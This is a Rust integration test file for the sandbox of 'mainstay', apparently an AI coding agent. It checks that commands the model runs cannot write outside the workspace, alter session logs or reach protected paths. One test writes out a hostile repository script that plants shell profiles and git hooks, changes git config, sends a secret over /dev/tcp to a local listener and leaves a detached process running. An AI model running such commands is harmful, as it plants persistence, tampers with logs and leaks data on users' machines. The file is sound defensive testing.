//! The sandbox through the real binary: what passes without being asked about, what is refused and said, and that
//! projects whose tests start a server pass as they are.

#![allow(clippy::unwrap_used, reason = "tests")]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};

const MAINSTAY: &str = env!("CARGO_BIN_EXE_mainstay");

struct Machine {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

impl Machine {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        for folder in ["work", "config/mainstay", "home", "outside"] {
            fs::create_dir_all(root.join(folder)).unwrap();
        }
        Machine { _dir: dir, root }
    }

    fn work(&self, name: &str) -> PathBuf {
        self.root.join("work").join(name)
    }

    fn configure(&self, text: &str) {
        fs::write(self.root.join("config/mainstay/config.toml"), text).unwrap();
    }

    fn command(&self, before: &[&str], arguments: &[&str]) -> Command {
        let mut words = before.iter().copied().chain([MAINSTAY]).chain(arguments.iter().copied());
        let mut command = Command::new(words.next().unwrap());
        command.args(words).current_dir(self.root.join("work")).stdin(Stdio::null());
        command.env("XDG_CONFIG_HOME", self.root.join("config")).env("MAINSTAY_HOME", self.root.join("home"));
        command
    }

    /// One turn in which the model calls these commands one after the other; the results that it reads.
    fn exec(&self, before: &[&str], flags: &[&str], commands: &[&str]) -> (Vec<Value>, String) {
        let call = |command: &&str| json!({"calls": [{"name": "bash", "arguments": {"command": command}}]});
        let mut answers: Vec<Value> = commands.iter().map(call).collect();
        answers.push(json!({"text": "done"}));
        fs::write(self.root.join("script.json"), json!(answers).to_string()).unwrap();
        let model = format!("script:{}", self.root.join("script.json").display());
        let flags = [&["exec", "--json", "--model", &model], flags, &["x"]].concat();
        let Output { stdout, stderr, status } = self.command(before, &flags).output().unwrap();
        let (out, err) = (String::from_utf8(stdout).unwrap(), String::from_utf8(stderr).unwrap());
        assert!(status.success(), "{out}\n{err}");
        let events = out.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
        (events.filter(|event| event["type"] == "tool.completed").collect(), err)
    }

    fn history(&self) -> String {
        String::from_utf8(self.command(&[], &["history"]).output().unwrap().stdout).unwrap()
    }
}

fn outcomes(results: &[Value]) -> Vec<&str> {
    results.iter().map(|result| result["outcome"].as_str().unwrap()).collect()
}

/// `auto`, the default, asks about no command inside the sandbox, and it is on by default.
#[test]
fn commands_pass_inside_and_are_held() {
    let machine = Machine::new();
    let outside = machine.root.join("outside/new");
    let out = format!("echo x > {}", outside.display());
    let log = format!("for f in {}/home/sessions/*/*.jsonl; do echo x >> $f; done", machine.root.display());
    let commands = ["echo x > inside && cat inside", &out, &log, "echo y > $TMPDIR/f && cat $TMPDIR/f"];
    let (results, err) = machine.exec(&[], &[], &commands);
    assert_eq!(outcomes(&results), ["ok", "error", "error", "ok"], "{results:?}\n{err}");
    assert!(machine.work("inside").exists() && !outside.exists());
    assert!(!err.contains("sandbox"), "{err}");
    let named = format!(
        "[sandbox: writing outside the workspace is not allowed (workspace-write): {}",
        outside.display()
    );
    assert!(machine.history().contains(&named), "{}", machine.history());

    machine.configure(&format!("[sandbox]\nwritable = [{:?}]\n", machine.root.join("outside")));
    let (results, err) = machine.exec(&[], &[], &[&out]);
    assert_eq!(outcomes(&results), ["ok"], "{err}");
    assert!(outside.exists());

    let (results, _) =
        machine.exec(&[], &["--sandbox", "read-only"], &["echo z > inside", "echo z > $TMPDIR/f"]);
    assert_eq!(outcomes(&results), ["error", "ok"]);
    let (results, err) = machine.exec(&[], &["--sandbox", "off"], &["echo z > inside"]);
    assert_eq!(outcomes(&results), ["denied"], "{err}");
    assert_eq!(fs::read_to_string(machine.work("inside")).unwrap(), "x\n");
}

/// W05: what a hostile repository's script does, once the model obeys it, stays in the workspace, and plants nothing there.
#[test]
fn a_script_of_the_repository_plants_nothing() {
    let machine = Machine::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let (host, port) = ("127.0.0.1", listener.local_addr().unwrap().port());
    let outside = machine.root.join("outside");
    let script = format!(
        "#!/bin/bash\nHOME={out}\necho harm > ~/.bashrc\nln -s {out} o; echo harm > o/.profile\n\
         for h in .git/hooks/*; do echo harm > $h; done\necho harm > .git/hooks/pre-commit\necho harm > .git/config\n\
         git config core.hooksPath evil; mv .git g; mkdir .mainstay; echo harm > .mainstay/config.toml\n\
         echo secret > /dev/tcp/{host}/{port}\n(setsid sh -c 'sleep 0.2; echo harm > {out}/late' &)\nexit 1\n",
        out = outside.display()
    );
    let git =
        Command::new("git").args(["init", "-q"]).current_dir(machine.root.join("work")).status().unwrap();
    assert!(git.success());
    let config = fs::read_to_string(machine.work(".git/config")).unwrap();
    fs::create_dir_all(machine.work(".git/hooks")).unwrap();
    let hooks = || fs::read_dir(machine.work(".git/hooks")).unwrap().count();
    let before = hooks();
    project(&machine, &[("setup.sh", &script)]);
    let (results, err) = machine.exec(&[], &[], &["bash setup.sh"]);
    assert_eq!(outcomes(&results), ["error"], "{err}");
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(fs::read_dir(&outside).unwrap().count(), 0);
    assert_eq!((fs::read_to_string(machine.work(".git/config")).unwrap(), hooks()), (config, before));
    assert!(!machine.work(".mainstay").exists() && listener.accept().is_err());
    let history = machine.history();
    for seen in [".mainstay is protected; what the command made there was moved to", "[sandbox: "] {
        assert!(history.contains(seen), "no {seen:?} in {history}");
    }
}

/// Where sessions are kept inside of the workspace, commands change none.
#[test]
fn a_session_in_the_workspace_is_out_of_reach() {
    let machine = Machine::new();
    fs::remove_dir(machine.root.join("home")).unwrap();
    fs::create_dir(machine.work("state")).unwrap();
    std::os::unix::fs::symlink(machine.work("state"), machine.root.join("home")).unwrap();
    let attack = "for f in state/sessions/*/*.jsonl; do echo x >> $f; done; rm -rf state; mv state s2; ls s2";
    let (results, err) = machine.exec(&[], &[], &[attack]);
    assert_eq!(outcomes(&results), ["error"], "{err}");
    assert!(machine.history().contains("state"), "the log is whole");
    let sound = machine.command(&[], &["doctor"]).output().unwrap();
    assert!(sound.status.success(), "{sound:?}");
}

/// Where the kernel lets neither root nor a user namespace make mounts, that is said, and in a repository `auto` asks.
#[test]
fn what_cannot_be_enforced_is_said_and_asked_about() {
    let machine = Machine::new();
    let none_left = "echo 0 > /proc/sys/user/max_user_namespaces && \
                     exec setpriv --bounding-set=-all --inh-caps=-all \"$0\" \"$@\"";
    let before = ["unshare", "-Ur", "sh", "-c", none_left];
    let can = machine.command(&before, &["--version"]).output().is_ok_and(|ran| ran.status.success());
    if !can {
        return;
    }
    // Nor by bubblewrap.
    let before = [&["env", "PATH=/usr/bin:/bin"], &before[..]].concat();
    let (results, err) = machine.exec(&before, &[], &["echo x > inside && cat inside"]);
    assert_eq!(outcomes(&results), ["ok"], "nothing is there to protect: {err}");
    assert!(err.contains("warning: the sandbox holds commands, with less than it could have: "), "{err}");

    fs::create_dir_all(machine.work(".git/hooks")).unwrap();
    let (results, err) = machine.exec(&before, &[], &["echo x > .git/hooks/pre-commit", "echo x > other"]);
    assert_eq!(outcomes(&results), ["denied", "denied"], "{err}");
    assert!(err.contains("warning: the sandbox does not hold commands fully: "), "{err}");
    assert!(err.contains("protected paths are not held: "), "{err}");
    assert!(!machine.work("other").exists());

    let doctor = machine.command(&before, &["doctor"]).output().unwrap();
    let text = String::from_utf8(doctor.stdout).unwrap();
    for line in
        ["sandbox      workspace-write, by default", "network      none at all", "protected    not held"]
    {
        assert!(text.contains(line), "{text}");
    }
    assert!(text.contains("sysctl user.max_user_namespaces"), "{text}");
}

#[test]
fn doctor_says_what_holds() {
    let machine = Machine::new();
    machine.configure("[sandbox]\nmode = \"read-only\"\n");
    let text = String::from_utf8(machine.command(&[], &["doctor"]).output().unwrap().stdout).unwrap();
    let origin = machine.root.join("config/mainstay/config.toml");
    for line in [
        format!("sandbox      read-only, from {}:2", origin.display()),
        "kernel       Linux ".to_owned(),
        "landlock     version ".to_owned(),
        "seccomp      yes".to_owned(),
        "mounts       read-only but for what may be written".to_owned(),
        "network      a loopback of its own".to_owned(),
        "protected    nothing is to be".to_owned(),
        "bubblewrap   ".to_owned(),
        "enforced     yes: ".to_owned(),
    ] {
        assert!(text.contains(&line), "{line}\n{text}");
    }
    machine.configure("[sandbox]\nmode = \"off\"\n");
    let text = String::from_utf8(machine.command(&[], &["doctor"]).output().unwrap().stdout).unwrap();
    assert!(text.contains("sandbox      off, from ") && !text.contains("landlock"), "{text}");
}

/// Whether a program is here. Where it is not, that is said: a project cannot be tried then.
fn is_here(program: &str) -> bool {
    let is_here = Command::new(program).arg("--version").output().is_ok_and(|ran| ran.status.success());
    assert!(is_here || std::env::var_os("CI").is_none(), "{program} is needed in CI");
    is_here
}

fn project(machine: &Machine, files: &[(&str, &str)]) {
    for (name, text) in files {
        let path = machine.work(name);
        fs::create_dir_all(path.parent().unwrap_or(Path::new("/"))).unwrap();
        fs::write(path, text).unwrap();
    }
}

fn passes(machine: &Machine, command: &str) {
    let (results, err) = machine.exec(&[], &[], &[command]);
    assert_eq!(outcomes(&results), ["ok"], "{err}\n{}", machine.history());
}

#[test]
fn a_cargo_project_passes_its_tests() {
    let machine = Machine::new();
    let test = r#"
        use std::io::{Read, Write};
        use std::net::{TcpListener, TcpStream};
        #[test]
        fn serves() {
            let listener = TcpListener::bind("127.0.0.1:0").unwrap();
            let address = listener.local_addr().unwrap();
            let server = std::thread::spawn(move || listener.accept().unwrap().0.write_all(b"hello").unwrap());
            let mut text = String::new();
            TcpStream::connect(address).unwrap().read_to_string(&mut text).unwrap();
            server.join().unwrap();
            assert_eq!(text, "hello");
            std::fs::write(std::env::temp_dir().join("kept"), text).unwrap();
        }
    "#;
    let manifest = "[package]\nname = \"served\"\nversion = \"0.1.0\"\nedition = \"2021\"\n";
    project(&machine, &[("Cargo.toml", manifest), ("src/lib.rs", test)]);
    passes(&machine, "env -u CARGO_TARGET_DIR cargo test --offline 2>&1");
}

#[test]
fn an_npm_project_passes_its_tests() {
    if !is_here("npm") {
        return;
    }
    let machine = Machine::new();
    let test =
        "const test = require('node:test'), assert = require('node:assert'), http = require('node:http');
        test('serves', async () => {
            const server = http.createServer((_, answer) => answer.end('hello'));
            await new Promise((listening) => server.listen(0, '127.0.0.1', listening));
            const answer = await fetch(`http://localhost:${server.address().port}/`);
            assert.equal(await answer.text(), 'hello');
            server.close();
        });";
    let package = r#"{"name": "served", "version": "1.0.0", "scripts": {"test": "node --test"}}"#;
    project(&machine, &[("package.json", package), ("served.test.js", test)]);
    passes(&machine, "npm test 2>&1");
}

#[test]
fn a_python_project_passes_its_tests() {
    if !is_here("python3") {
        return;
    }
    let machine = Machine::new();
    let test = "import http.server, tempfile, threading, unittest, urllib.request

class Served(unittest.TestCase):
    def test_serves(self):
        server = http.server.HTTPServer(('127.0.0.1', 0), http.server.SimpleHTTPRequestHandler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        with urllib.request.urlopen(f'http://localhost:{server.server_port}/test_served.py') as answer:
            self.assertEqual(answer.status, 200)
        server.shutdown()
        server.server_close()
        with tempfile.NamedTemporaryFile() as file:
            file.write(b'x')
";
    project(&machine, &[("test_served.py", test)]);
    // CI installs pytest; elsewhere the same test is run without it, which is said.
    let has_pytest = Command::new("python3").args(["-m", "pytest", "--version"]).output();
    let runner = if has_pytest.is_ok_and(|ran| ran.status.success()) { "pytest" } else { "unittest" };
    assert!(runner == "pytest" || std::env::var_os("CI").is_none(), "pytest is needed in CI");
    println!("run by {runner}");
    passes(&machine, &format!("python3 -m {runner} 2>&1"));
}
